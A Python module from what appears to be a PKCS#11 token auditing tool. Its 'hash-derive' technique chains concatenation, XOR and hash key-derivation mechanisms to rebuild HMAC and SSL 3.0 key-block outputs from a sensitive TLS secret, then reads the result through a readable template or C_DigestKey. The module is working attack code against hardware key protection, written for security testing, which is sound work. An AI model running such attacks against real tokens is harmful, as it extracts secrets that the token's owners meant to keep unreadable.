"""hash-derive: a secret concatenated, XORed and hashed, key by key in the module, until an HMAC or SSL 3.0's key block is left.

None of the steps shows a byte but the last, a hash, which takes its sensitivity from the template.
"""

from collections.abc import Iterable, Sequence
from functools import partial
from typing import Final

from keyfence.cryptoki import Mechanism
from keyfence.cryptoki.constants import CKK, CKM
from keyfence.cryptoki.params import DerivationString, KeyHandle, Parameters
from keyfence.cryptoki.session import secret_key
from keyfence.cryptoki.values import Template
from keyfence.model import Readable
from keyfence.schedule import PrfHash

from .base import Attack, Bench, Inconclusive, Technique
from .digest_key import digest_of
from .oracle import OracleAttack, Way, read_derived, readable_templates
from .targets import rests_on_hmac, target_of
from .victim import Kind, Victim

_BLOCK: Final = {PrfHash.MD5: 64, PrfHash.SHA1: 64, PrfHash.SHA256: 64, PrfHash.SHA384: 128, PrfHash.SHA512: 128}
"""Bytes of a hash's input block, to which HMAC pads its key (RFC 2104 §2)."""


class HashDerive(Technique):
    id = "hash-derive"
    title = "Hashes of keys made of keys"
    summary = (
        "CKM_XOR_BASE_AND_DATA and CKM_CONCATENATE_* make keys of a secret and strings of the caller's; CKM_*_KEY_DERIVATION "
        "hashes a key into one that the template may make readable. HMAC is H(K^opad + H(K^ipad + data)), and SSL 3.0's key "
        "block MD5(master + SHA1(letters + master + randoms)): both are built step by step from these."
    )
    section = "PKCS#11 3.2 §6.43 (XOR, CONCATENATE), §6.21 (hash-based key derivation: sensitivity is the template's)"
    references = ("RFC 2104 §2", "RFC 6101 §6.2.2", "RFC 5246 §5", "Clulow, CHES 2003")
    remedy = "A TLS secret is no base key and no operand for these mechanisms; a hash of a sensitive key is sensitive."
    kinds = frozenset({Kind.SSL3, Kind.TLS12, Kind.TLS13, Kind.WTLS, Kind.SEPARATED})

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        if victim.kind is Kind.SSL3:
            return [Ssl3Attack(victim)]
        return [HmacAttack(victim)] if rests_on_hmac(victim) else []


class _Workshop:
    """Protected keys made of keys, all of them generic secrets."""

    def __init__(self, bench: Bench) -> None:
        self.bench = bench

    def append(self, base: int, data: bytes) -> int:
        return self._make(CKM.CONCATENATE_BASE_AND_DATA, base, DerivationString(data))

    def prepend(self, data: bytes, base: int) -> int:
        return self._make(CKM.CONCATENATE_DATA_AND_BASE, base, DerivationString(data))

    def append_key(self, base: int, other: int) -> int:
        return self._make(CKM.CONCATENATE_BASE_AND_KEY, base, KeyHandle(other))

    def xor(self, base: int, data: bytes) -> int:
        return self._make(CKM.XOR_BASE_AND_DATA, base, DerivationString(data))

    def hash(self, mechanism: int, base: int) -> int:
        return self._make(mechanism, base, None)

    def _make(self, mechanism: int, base: int, parameters: Parameters | None) -> int:
        template = secret_key(CKK.GENERIC_SECRET, sensitive=True, extractable=False, derive=True)
        handle = self.bench.session.derive(Mechanism(mechanism, parameters), base, template).handle
        if not handle:
            raise Inconclusive(f"{Mechanism(mechanism).name} answered CKR_OK and made no key")
        return handle


class _HashAttack(OracleAttack):
    """Subclasses make the keys; here the last one is hashed and read, by a readable key or by C_DigestKey."""

    sink = Readable()

    def __init__(self, victim: Victim, last: PrfHash) -> None:
        super().__init__(victim, _key_derivation(last))
        self.last = last

    def ways(self, bench: Bench) -> Sequence[Way]:
        finishes: list[tuple[str, Template | None]] = [
            *((f"C_DeriveKey({self.name}, {text})", template) for text, template in readable_templates(self.last.digest_size)),
            (f"C_DigestKey({self.last.ckm.name})", None),
        ]
        return [Way(f"{self.made_of}, {text}", partial(self._ask, bench, template)) for text, template in finishes]

    made_of = ""
    """The keys made, for a reader."""

    def _ask(self, bench: Bench, template: Template | None, secret: int, data: bytes) -> bytes:
        with bench.session.scope():
            return self.compute(_Workshop(bench), template, secret, data)

    def compute(self, workshop: _Workshop, template: Template | None, secret: int, data: bytes) -> bytes:
        raise NotImplementedError

    def finish(self, workshop: _Workshop, template: Template | None, key: int) -> bytes:
        """The last hash, of `key`."""
        if template is None:
            return digest_of(workshop.bench, self.last.ckm, b"", key, b"")
        return read_derived(workshop.bench, Mechanism(self.mechanism), key, template)


class Ssl3Attack(_HashAttack):
    """MD5(master | SHA1(letters | master | randoms)), block by block (RFC 6101 §6.2.2)."""

    whole = True
    made_of = "master | SHA1(letters | master | randoms)"

    def __init__(self, victim: Victim) -> None:
        super().__init__(victim, PrfHash.MD5)

    @property
    def requires(self) -> tuple[int, ...]:
        joins = (CKM.CONCATENATE_DATA_AND_BASE, CKM.CONCATENATE_BASE_AND_DATA, CKM.CONCATENATE_BASE_AND_KEY)
        return (*map(int, joins), int(CKM.SHA1_KEY_DERIVATION), self.mechanism)

    def compute(self, workshop: _Workshop, template: Template | None, secret: int, data: bytes) -> bytes:
        stream, count = b"", 0
        while len(stream) < self.target.length:
            count += 1
            letters = bytes([ord("A") + count - 1]) * count
            inner = workshop.append(workshop.prepend(letters, secret), data)
            outer = workshop.append_key(secret, workshop.hash(CKM.SHA1_KEY_DERIVATION, inner))
            block = self.finish(workshop, template, outer)
            if not block:
                raise Inconclusive("an empty hash came back")
            stream += block
        return stream


class HmacAttack(_HashAttack):
    """H(K^opad | H(K^ipad | data)); the secret is shorter than the hash's block, whose rest is pad alone."""

    made_of = "K^opad | H(K^ipad | data)"

    def __init__(self, victim: Victim) -> None:
        super().__init__(victim, target_of(victim).prf_hash)

    @property
    def requires(self) -> tuple[int, ...]:
        joins = (CKM.XOR_BASE_AND_DATA, CKM.CONCATENATE_BASE_AND_DATA, CKM.CONCATENATE_BASE_AND_KEY)
        return (*map(int, joins), self.mechanism)

    def compute(self, workshop: _Workshop, template: Template | None, secret: int, data: bytes) -> bytes:
        inner = workshop.hash(self.mechanism, self._padded(workshop, secret, 0x36, data))
        return self.finish(workshop, template, workshop.append_key(self._padded(workshop, secret, 0x5C, b""), inner))

    def _padded(self, workshop: _Workshop, secret: int, pad: int, data: bytes) -> int:
        length = self.victim.secret_length
        block = bytes([pad]) * _BLOCK[self.last]
        return workshop.append(workshop.xor(secret, block[:length]), block[length:] + data)


def _key_derivation(prf_hash: PrfHash) -> int:
    return int(CKM[f"{prf_hash.name}_KEY_DERIVATION"])
